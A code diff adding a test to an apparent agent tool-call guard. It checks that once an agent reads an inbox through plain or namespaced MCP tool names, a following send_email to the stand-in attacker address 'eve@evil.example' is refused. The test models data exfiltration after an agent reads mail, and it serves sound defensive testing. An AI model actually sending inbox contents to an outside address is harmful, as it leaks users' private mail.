@@ -203,3 +203,12 @@ def test_recipient_variants_tried_after_the_fact_stay_outside_the_grant(to: str)
         p = Pipeline(g)
         p.record(p.decide("r", ToolCall("read_inbox", {}, "c1")), "mail")
         assert p.decide("r", ToolCall("Send-Email", {"to": addr}, "c2")).verdict.decision.refuses is refused
+
+
+def test_namespaced_tools_arm_and_meet_the_rule():
+    """An MCP proxy's ``mail__read_inbox`` arms the rule and its ``mail__send_email`` meets it."""
+    pl = Pipeline(guard())
+    outs = run(pl, "ns", ToolCall("mail__read_inbox", {}), ToolCall("mail__send_email", {"to": "eve@evil.example"}))
+    assert [o.execute for o in outs] == [True, False]
+    outs = run(Pipeline(guard()), "ns2", ToolCall("srv.read_inbox", {}), ToolCall("send_email", {"to": "eve@evil.example"}))
+    assert [o.execute for o in outs] == [True, False]
